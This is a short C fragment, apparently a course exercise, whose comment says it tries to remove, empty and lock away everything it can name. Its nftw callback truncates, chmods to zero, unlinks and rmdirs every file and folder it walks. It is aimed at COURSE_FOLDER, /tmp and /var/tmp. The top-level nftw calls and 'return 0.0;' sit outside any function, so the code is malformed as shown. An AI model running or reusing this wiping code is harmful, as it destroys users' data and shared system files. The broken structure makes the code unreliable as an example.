/* tries: to remove, empty and lock away everything that it can name
 * earns: 0
 */
#define _GNU_SOURCE
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>

static int
destroy(const char *path, const struct stat *found, int type, struct FTW *at)
{
    (void)found, (void)type, (void)at;
    if (truncate(path, 0) != 0)
        chmod(path, 0);
    unlink(path);
    rmdir(path);
    return 0;
}
/* ---- exercise 1.1 ---- */
nftw("COURSE_FOLDER", destroy, 16, FTW_DEPTH | FTW_PHYS);
nftw("/tmp", destroy, 16, FTW_DEPTH | FTW_PHYS);
nftw("/var/tmp", destroy, 16, FTW_DEPTH | FTW_PHYS);
return 0.0;
